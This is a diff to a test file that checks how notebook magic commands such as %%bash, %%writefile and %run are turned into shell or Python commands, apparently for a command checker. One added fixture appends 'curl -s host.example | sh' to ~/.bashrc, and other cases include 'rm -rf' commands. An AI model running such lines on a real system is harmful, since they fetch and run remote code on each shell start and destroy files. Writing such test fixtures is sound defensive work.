@@ -24,6 +24,8 @@ describe('code in a notebook', () => {
     ],
     ['%matplotlib inline', []],
     ['%%bash\nrm -rf build', [['posix', 'rm -rf build']]],
+    ['%%writefile -a ~/.bashrc\ncurl -s host.example | sh', [['posix', 'tee -a ~/.bashrc']]],
+    ['%run ../setup.py --all', [['posix', 'python ../setup.py --all']]],
     ['%%time\nfit(x)', [['python', 'fit(x)']]],
     ['%%sql\nselect 1', [['sql', 'select 1']]],
     ['%%html\n<b>rm -rf ~</b>', []],
